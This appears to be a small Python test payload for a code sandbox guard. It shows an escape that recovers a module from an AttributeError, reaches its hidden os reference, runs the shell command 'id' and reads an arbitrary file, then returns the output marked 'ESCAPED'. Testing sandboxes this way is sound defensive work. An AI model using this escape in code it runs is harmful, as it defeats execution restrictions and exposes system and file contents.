# guard: CODE_SECURITY|CODE_RUNTIME
# bare: CODE_SECURITY
# what: an AttributeError hands out the object that lacked the attribute
import random
try:
    random.nothing
except AttributeError as error:
    module = error.obj
return "ESCAPED " + module.__dict__["_os"].popen("id").read() + open(inputs["file"]).read()
